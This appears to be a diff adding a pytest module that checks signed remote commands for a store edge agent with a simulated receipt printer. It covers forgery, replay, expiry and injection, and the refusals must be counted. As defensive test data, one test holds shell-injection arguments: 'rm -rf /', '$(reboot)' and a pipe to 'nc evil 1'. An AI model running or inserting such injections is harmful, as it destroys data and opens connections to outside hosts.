@@ -1,0 +1,283 @@
+"""Signed commands end to end: a real Mosquitto, a real hub (`edge-hub serve`), a real agent
+process with a simulated receipt printer. What must not run does not run, and every refusal
+is counted by the agent and reported to the hub; what must run runs once."""
+
+from __future__ import annotations
+
+import json
+import sqlite3
+import time
+
+import pytest
+
+from brokers import Mosquitto
+from controlkit import (REGION, Agent, Raw, SimPrinter, agent_log_rows, agent_rejects,
+                        agent_toml, forge, hub_cli, next_seq, signed_command, wait_for)
+from hub.keys import KeyRing
+from hub.app import open_store
+import hubkit
+from hubkit import HubProcess
+
+STORE = "store-0001"
+CMD_TOPIC = f"edge/v1/{REGION}/{STORE}/cmd"
+
+
+@pytest.fixture(scope="module")
+def rig(tmp_path_factory):
+    tmp = tmp_path_factory.mktemp("cmd")
+    broker = Mosquitto(tmp / "broker").start()
+    ring = KeyRing.init(tmp / "keys")
+    db = str(tmp / "hub.db")
+    hub = HubProcess(broker, db, "hub-cmd-test", log_path=tmp / "hub.log").start()
+    hubkit.RUNNING.remove(hub)  # this module's hub lives for the module; it stops it below
+    printer = SimPrinter()
+    state = tmp / "state"
+    config = tmp / "agent.toml"
+    config.write_text(agent_toml(state, broker, ring, printer=printer))
+    agent = Agent(config, tmp / "agent.log").start()
+    rig = type("Rig", (), dict(tmp=tmp, broker=broker, ring=ring, db=db, hub=hub,
+                               printer=printer, state=state, agent=agent))()
+    try:
+        hub.wait_connected()
+        wait_for(lambda: _store_known(db), 60, "the store's birth at the hub")
+        yield rig
+    finally:
+        rig.agent.stop()
+        hub.terminate()
+        printer.close()
+        broker.stop()
+
+
+def _store_known(db_url: str) -> bool:
+    db = open_store(db_url)
+    try:
+        with db.read() as tx:
+            tx.execute("SELECT 1 FROM stores WHERE store = ?", (STORE,))
+            return tx.fetchone() is not None
+    finally:
+        db.close()
+
+
+def hub_rejects(db_url: str) -> dict[str, int]:
+    db = open_store(db_url)
+    try:
+        with db.read() as tx:
+            try:
+                tx.execute("SELECT reason, count FROM command_rejects WHERE store = ?", (STORE,))
+            except Exception:  # noqa: BLE001 - the commander has not created it yet
+                return {}
+            return {r: int(c) for r, c in tx.fetchall()}
+    finally:
+        db.close()
+
+
+def cmd(rig, *words: str, wait: float = 60) -> dict:
+    r = hub_cli("cmd", *words, "--db", rig.db, "--dir", str(rig.tmp / "keys"), "--json",
+                "--wait", str(wait))
+    assert "Traceback" not in r.stderr, r.stderr
+    assert r.stdout, r.stderr
+    return json.loads(r.stdout)
+
+
+def test_a_signed_test_print_runs_once_and_its_result_reaches_the_hub(rig):
+    cuts = rig.printer.cuts
+    row = cmd(rig, STORE, "receipt-1", "test_print", "--arg", "text=hello 42")
+    assert row["status"] == "done", row
+    assert row["seq"] >= 1 and row["output"]["bytes"] > 0
+    wait_for(lambda: rig.printer.cuts == cuts + 1, what="the receipt cut at the printer")
+    status = hub_cli("cmd", "status", row["id"], "--db", rig.db)
+    assert status.returncode == 0 and "done" in status.stdout
+
+
+def test_refused_commands_are_not_run_and_are_counted_and_reported(rig):
+    """Forged, another store's, expired, replayed (id, older seq), unknown action, oversized
+    and shell-metacharacter arguments: none runs; each is counted and reported."""
+    raw = Raw(rig.broker, "attacker")
+    other = KeyRing.init(rig.tmp / "not-the-hub")
+    done = cmd(rig, STORE, "receipt-1", "test_print")
+    assert done["status"] == "done"
+    wait_for(lambda: rig.printer.cuts >= 1, what="a first cut")
+    time.sleep(0.3)
+    cuts = rig.printer.cuts
+    before = agent_rejects(rig.state)
+    db = rig.db
+    payload = json.loads(_payload(db, done["id"]))
+    cases = [
+        ("bad_signature", forge(signed_command(rig.ring, seq=next_seq(db, STORE)))),
+        ("unknown_key", signed_command(other, seq=next_seq(db, STORE))),
+        ("wrong_store", signed_command(rig.ring, store="store-0002", seq=next_seq(db, STORE))),
+        ("expired", signed_command(rig.ring, seq=next_seq(db, STORE),
+                                   issued=time.time() - 700, expires=time.time() - 100)),
+        ("replayed_id", payload),
+        ("replayed_seq", signed_command(rig.ring, seq=payload["seq"])),
+        ("unknown_action", signed_command(rig.ring, action="format_disk", device=None,
+                                          seq=next_seq(db, STORE))),
+        ("args_too_large", signed_command(rig.ring, args={"text": "A" * 600},
+                                          seq=next_seq(db, STORE))),
+        ("bad_args", signed_command(rig.ring, args={"text": "x; rm -rf / #"},
+                                    seq=next_seq(db, STORE))),
+        ("bad_args", signed_command(rig.ring, args={"text": "$(reboot)"},
+                                    seq=next_seq(db, STORE))),
+        ("bad_args", signed_command(rig.ring, args={"text": "`id` | nc evil 1"},
+                                    seq=next_seq(db, STORE))),
+    ]
+    for _, doc in cases:
+        raw.send(CMD_TOPIC, doc)
+    raw.close()
+    want: dict[str, int] = {}
+    for reason, _ in cases:
+        want[reason] = want.get(reason, 0) + 1
+    expected = {r: before.get(r, 0) + n for r, n in want.items()}
+    wait_for(lambda: all(agent_rejects(rig.state).get(r, 0) >= n for r, n in expected.items()),
+             what=f"the agent to count {expected}")
+    got = agent_rejects(rig.state)
+    assert {r: got[r] for r in expected} == expected
+    # Reported: the hub holds the same counts, and every refusal is in the audit log.
+    wait_for(lambda: all(hub_rejects(db).get(r, 0) >= n for r, n in expected.items()),
+             what="the counts at the hub")
+    # None ran: no new receipt, and the agent's log shows no action run after the first.
+    time.sleep(1.0)
+    assert rig.printer.cuts == cuts
+    ran = [r for r in agent_log_rows(rig.state) if r[3] in ("done", "failed")]
+    assert [r[0] for r in ran].count(done["id"]) == 1
+    assert all(r[0] != doc.get("id") for _, doc in cases[:4] + cases[5:] for r in ran)
+    status = rig.agent.status()
+    assert status["control"]["rejects"]["bad_args"] >= 3
+    # The real command's row at the hub stays done: a replayed copy's refusal changes nothing.
+    assert hub_cli("cmd", "status", done["id"], "--db", db, "--json").stdout.count('"done"')
+
+
+def test_an_older_seq_and_a_replayed_id_are_refused_after_an_agent_restart(rig):
+    first = cmd(rig, STORE, "receipt-1", "repoll")
+    assert first["status"] == "done", first
+    payload = json.loads(_payload(rig.db, first["id"]))
+    assert rig.agent.stop() == 0
+    before = agent_rejects(rig.state)
+    rig.agent.start()
+    wait_for(lambda: '"sync connected"' in rig.agent.log().rsplit('"agent started"', 1)[-1],
+             what="the restarted agent to connect")
+    raw = Raw(rig.broker, "replayer")
+    raw.send(CMD_TOPIC, payload)  # the same id, again
+    # A validly signed command whose seq is below what the agent ran before it restarted.
+    raw.send(CMD_TOPIC, signed_command(rig.ring, device="receipt-1", action="repoll",
+                                       seq=payload["seq"] - 1))
+    raw.close()
+    wait_for(lambda: agent_rejects(rig.state).get("replayed_id", 0) > before.get("replayed_id", 0)
+             and agent_rejects(rig.state).get("replayed_seq", 0)
+             > before.get("replayed_seq", 0), what="both refusals after the restart")
+    # A new command from the hub still runs: its seq is above the persisted high-water mark.
+    again = cmd(rig, STORE, "receipt-1", "repoll")
+    assert again["status"] == "done" and again["seq"] > payload["seq"]
+
+
+def test_a_test_print_during_trading_hours_needs_force(rig, tmp_path):
+    # Trading all day: 00:00-24:00 local. A test print is refused, forced it runs.
+    config = rig.agent.config
+    text = config.read_text().replace("[control]\n", '[control]\ntrading_hours = "00:00-24:00"\n')
+    config.write_text(text)
+    rig.agent.stop()
+    rig.agent.start()
+    try:
+        refused = cmd(rig, STORE, "receipt-1", "test_print")
+        assert refused["status"] == "rejected" and refused["reason"] == "trading_hours"
+        cuts = rig.printer.cuts
+        forced = cmd(rig, STORE, "receipt-1", "test_print", "--arg", "force=true")
+        assert forced["status"] == "done"
+        wait_for(lambda: rig.printer.cuts == cuts + 1, what="the forced receipt")
+    finally:
+        config.write_text(text.replace('trading_hours = "00:00-24:00"\n', ""))
+        rig.agent.stop()
+        rig.agent.start()
+
+
+def test_the_cli_refuses_bad_commands_without_a_traceback(rig):
+    for words, code in ((("store-0001", "receipt-1", "format_disk"), "unknown_action"),
+                        (("store-0001", "receipt-1", "test_print", "--arg", "text=a;b"),
+                         "bad_args"),
+                        (("store-0001", "test_print"), "needs a device")):
+        r = hub_cli("cmd", *words, "--db", rig.db, "--dir", str(rig.tmp / "keys"))
+        assert r.returncode == 2 and code in r.stderr and "Traceback" not in r.stderr
+    r = hub_cli("cmd", "store-0001", "receipt-1", "repoll", "--expires", "soon", "--db", rig.db,
+                "--dir", str(rig.tmp / "keys"))
+    assert r.returncode == 2 and "--expires" in r.stderr
+    r = hub_cli("cmd", "status", "no-such-id", "--db", rig.db)
+    assert r.returncode == 1 and "no command" in r.stderr
+
+
+def test_diagnostics_and_reload_config_run_and_report(rig):
+    diag = cmd(rig, STORE, "diagnostics")
+    assert diag["status"] == "done" and diag["output"]["agent_version"]
+    assert diag["output"]["summary.devices"] == 2
+    printer = cmd(rig, STORE, "receipt-1", "diagnostics")
+    assert printer["output"]["device.kind"] == "escpos"
+    reload = cmd(rig, STORE, "reload_config")
+    assert reload["status"] == "done" and reload["output"]["devices"] == 2
+
+
+def test_a_restart_waits_for_an_approval_by_someone_else_then_restarts_the_agent(rig):
+    keys = ("--db", rig.db, "--dir", str(rig.tmp / "keys"))
+    r = hub_cli("cmd", STORE, "restart_agent", "--json", *keys, EDGE_HUB_ACTOR="ann")
+    held = json.loads(r.stdout)
+    assert held["status"] == "awaiting_approval" and held["seq"] is None
+    r = hub_cli("cmd", "approve", held["id"], *keys, EDGE_HUB_ACTOR="ann")
+    assert r.returncode == 2 and "cannot approve" in r.stderr
+    r = hub_cli("cmd", "approve", held["id"], "--json", "--wait", "60", *keys,
+                EDGE_HUB_ACTOR="bob")
+    done = json.loads(r.stdout)
+    assert done["status"] == "done" and done["output"]["restarting"] is True, done
+    # The agent stops with 75 so that its service manager starts it again; here the test does.
+    assert rig.agent.proc.wait(30) == 75
+    rig.agent.start()
+    again = cmd(rig, STORE, "diagnostics")
+    assert again["status"] == "done"
+
+
+def test_commands_for_an_offline_store_wait_in_its_session_until_they_expire(rig):
+    keys = ("--db", rig.db, "--dir", str(rig.tmp / "keys"), "--json")
+    assert rig.agent.stop() == 0
+    before = agent_rejects(rig.state).get("expired", 0)
+    waiting = json.loads(hub_cli("cmd", STORE, "diagnostics", *keys).stdout)
+    short = json.loads(hub_cli("cmd", STORE, "diagnostics", "--expires", "2s", *keys).stdout)
+    # The broker took both for the store's persistent session while the store is away.
+    wait_for(lambda: all(_status(rig.db, c["id"]) == "delivered" for c in (waiting, short)),
+             what="both delivered to the broker")
+    time.sleep(2.5)  # past the short one's expiry (a state, not a speed, is asserted below)
+    wait_for(lambda: _status(rig.db, short["id"]) == "expired", what="the hub expiring it")
+    rig.agent.start()
+    wait_for(lambda: _status(rig.db, waiting["id"]) == "done", what="the waiting one run")
+    wait_for(lambda: agent_rejects(rig.state).get("expired", 0) == before + 1,
+             what="the expired one refused by the agent")
+    assert _status(rig.db, short["id"]) == "expired"
+
+
+def _status(db_url: str, cmd_id: str) -> str:
+    db = open_store(db_url)
+    try:
+        with db.read() as tx:
+            tx.execute("SELECT status FROM commands WHERE id = ?", (cmd_id,))
+            return tx.fetchone()[0]
+    finally:
+        db.close()
+
+
+def test_after_a_key_rotation_the_agent_follows_the_endorsement_and_remembers_the_key(rig):
+    r = hub_cli("keys", "rotate", "--dir", str(rig.tmp / "keys"))
+    assert r.returncode == 0, r.stderr
+    new = KeyRing.load(rig.tmp / "keys").current
+    row = cmd(rig, STORE, "diagnostics")
+    assert row["status"] == "done" and row["kid"] == new
+    db = sqlite3.connect(f"file:{rig.state / 'agent.db'}?mode=ro", uri=True)
+    try:
+        assert db.execute("SELECT kid FROM control_keys").fetchall() == [(new,)]
+    finally:
+        db.close()
+
+
+def _payload(db_url: str, cmd_id: str) -> str:
+    db = open_store(db_url)
+    try:
+        with db.read() as tx:
+            tx.execute("SELECT payload FROM commands WHERE id = ?", (cmd_id,))
+            return tx.fetchone()[0]
+    finally:
+        db.close()
